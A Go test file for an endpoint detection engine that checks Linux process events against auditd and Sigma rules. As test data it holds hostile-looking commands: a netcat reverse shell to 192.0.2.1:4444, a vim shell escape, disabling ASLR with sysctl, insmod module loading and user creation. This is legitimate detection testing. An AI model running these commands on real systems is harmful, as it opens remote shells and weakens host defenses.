package detect_test

import (
	"encoding/json"
	"slices"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/picket-edr/picket"
	"github.com/picket-edr/picket/internal/detect"
	"github.com/picket-edr/picket/internal/detect/detecttest"
)

// execEvent returns the event of picket's agent for the start of a program.
func execEvent(t *testing.T, process map[string]any) picket.Event {
	t.Helper()
	process["action"] = "created"
	raw, err := json.Marshal(map[string]any{"agent_id": "a", "event_id": "e", "event_type": "process", "host": map[string]string{"hostname": "h", "os": "Linux"}, "process": process})
	if err != nil {
		t.Fatal(err)
	}
	return picket.Event{ID: "e", Raw: raw}
}

// firedTitles returns the titles of the matches of an event, sorted.
func firedTitles(t *testing.T, d *detect.Detector, ev picket.Event) []string {
	t.Helper()
	matches, err := d.Detect([]picket.Event{ev})
	if err != nil {
		t.Fatal(err)
	}
	titles := []string{}
	for _, m := range matches {
		titles = append(titles, m.Title)
	}
	slices.Sort(titles)
	return titles
}

// The start of a program on Linux matches rules for auditd, and rules for its image by
// the name asked for and by the resolved one; each rule once.
func TestNativeExec(t *testing.T) {
	auditd := func(title, detection string) string {
		return "title: " + title + "\nid: " + title + "\nlogsource: {product: linux, service: auditd}\ndetection: {s: {" + detection + "}, condition: s}\n---\n"
	}
	process := func(title, detection string) string {
		return "title: " + title + "\nid: " + title + "\nlogsource: {product: linux, category: process_creation}\ndetection: {s: {" + detection + "}, condition: s}\n---\n"
	}
	d := detecttest.Engine(t, auditd("arguments", "type: EXECVE, a0: sysctl, a1: -w, a2: kernel.randomize_va_space=0")+
		auditd("quoted", "type: EXECVE, a0: sh, a2: 'echo \"a b\" c'")+
		auditd("call", "type: SYSCALL, SYSCALL: execve, comm: insmod, exe: /usr/bin/kmod")+
		auditd("cut", "comm: a-long-program-")+
		auditd("script", "comm: ufw")+
		auditd("key", "key: susp_activity")+
		process("resolved", "Image|endswith: /vim.tiny")+
		process("asked", "Image|endswith: /vi")+
		process("either", "'Image|endswith': [/vi, /vim.tiny]")+
		process("parent", "ParentImage|endswith: /vi")+
		"title: both\nid: both\nlogsource: {product: linux}\ndetection: {s: {Image|endswith: /kmod}, condition: s}\n").NewDetector()
	for _, c := range []struct {
		process map[string]any
		want    []string
	}{
		{map[string]any{"name": "/usr/sbin/sysctl", "command_line": "sysctl -w kernel.randomize_va_space=0"}, []string{"arguments"}},
		{map[string]any{"name": "/usr/sbin/sysctl", "command_line": `sysctl "-w kernel.randomize_va_space=0"`}, []string{}},
		{map[string]any{"name": "/usr/bin/dash", "command_line": `sh -c echo "a b" c`, "args": []string{"sh", "-c", `echo "a b" c`}}, []string{"quoted"}},
		{map[string]any{"name": "/usr/bin/kmod", "invoked_as": "/usr/sbin/insmod", "command_line": "insmod x.ko"}, []string{"both", "call"}},
		{map[string]any{"name": "/usr/bin/kmod", "command_line": "kmod list"}, []string{"both"}},
		{map[string]any{"name": "/opt/a-long-program-name", "command_line": "a-long-program-name"}, []string{"cut"}},
		{map[string]any{"name": "/usr/bin/python3.11", "comm": "ufw", "command_line": "/usr/bin/python3 /usr/sbin/ufw"}, []string{"script"}},
		{map[string]any{"name": "/usr/bin/curl", "command_line": "curl example.org"}, []string{"key"}},
		{map[string]any{"name": "/usr/bin/vim.tiny", "invoked_as": "/usr/bin/vi", "command_line": "vi x"}, []string{"asked", "either", "resolved"}},
		{map[string]any{"name": "/usr/bin/dash", "parent_image": "/usr/bin/vim.tiny", "parent_invoked_as": "/usr/bin/vi", "command_line": "sh"}, []string{"parent"}},
		{map[string]any{"name": "insmod"}, []string{}}, // a thread of the kernel
	} {
		if diff := cmp.Diff(c.want, firedTitles(t, d, execEvent(t, c.process))); diff != "" {
			t.Errorf("%v: (-want +got)\n%s", c.process, diff)
		}
	}
	ended := execEvent(t, map[string]any{"name": "/usr/bin/curl", "command_line": "curl example.org"})
	ended.Raw = []byte(`{"event_type":"process","host":{"os":"Linux"},"process":{"name":"/usr/bin/curl","command_line":"curl","action":"terminated"}}`)
	if got := firedTitles(t, d, ended); len(got) > 0 {
		t.Errorf("the exit matches %v", got)
	}
}

// The start of a program matches the rules of the Sigma project for auditd.
func TestNativeExecSigmaHQ(t *testing.T) {
	d := sigmaHQ(t).NewDetector()
	for title, process := range map[string]map[string]any{
		"Loading of Kernel Module via Insmod":                {"name": "/usr/bin/kmod", "invoked_as": "/usr/sbin/insmod", "command_line": "insmod x.ko"},
		"Split A File Into Pieces - Linux":                   {"name": "/usr/bin/split", "command_line": "split -b 5M x"},
		"Creation Of An User Account":                        {"name": "/usr/sbin/useradd", "command_line": "useradd eve"},
		"File Time Attribute Change - Linux":                 {"name": "/usr/bin/touch", "command_line": "touch -r /bin/ls x"},
		"ASLR Disabled Via Sysctl or Direct Syscall - Linux": {"name": "/usr/sbin/sysctl", "command_line": "sysctl -w kernel.randomize_va_space=0"},
		"Suspicious C2 Activities":                           {"name": "/usr/bin/nc.openbsd", "invoked_as": "/usr/bin/nc", "command_line": "nc -z host 22"},
		"Capabilities Discovery - Linux":                     {"name": "/usr/sbin/getcap", "command_line": "getcap -r /"},
		"Program Executions in Suspicious Folders":           {"name": "/tmp/x", "command_line": "./x"},
		"Password Policy Discovery - Linux":                  {"name": "/usr/bin/chage", "command_line": "chage -l root"},
		"Screen Capture with Xwd":                            {"name": "/usr/bin/xwd", "command_line": "xwd -root -out x.xwd"},
		"Vim GTFOBin Abuse - Linux":                          {"name": "/usr/bin/vim.tiny", "invoked_as": "/usr/bin/vi", "command_line": `vi -c ":!/bin/sh"`},
		"Potential Netcat Reverse Shell Execution":           {"name": "/usr/bin/nc.traditional", "invoked_as": "/usr/bin/nc", "command_line": "nc 192.0.2.1 4444 -e /bin/sh"},
	} {
		if got := firedTitles(t, d, execEvent(t, process)); !slices.Contains(got, title) {
			t.Errorf("%v: %q did not fire, only %q", process, title, got)
		}
	}
}
